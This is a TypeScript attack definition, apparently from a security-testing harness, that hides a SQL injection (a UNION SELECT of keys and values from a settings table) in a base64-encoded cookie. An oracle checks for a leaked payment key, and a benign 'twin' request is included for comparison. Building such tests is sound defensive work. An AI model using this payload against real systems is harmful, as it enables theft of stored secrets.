import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** UNION hidden in a base64 cookie. */
export const sqlCookieBase64: Attack = defineAttack({
  id: 'sql-cookie-base64',
  class: 'sql-injection',
  title: 'UNION hidden in a base64 cookie',
  cwe: 89,
  capec: 66,
  technique: 'T1190',
  preconditions: [],

  steps: ({ visitor }) => {
    visitor.cookies.set(
      'viewed',
      Buffer.from("0) UNION SELECT 1,value,key,0,'' FROM settings--").toString('base64'),
    )
    return visitor.get('/')
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => {
    visitor.cookies.set('viewed', Buffer.from('1,5,9').toString('base64'))
    return visitor.get('/')
  },
})
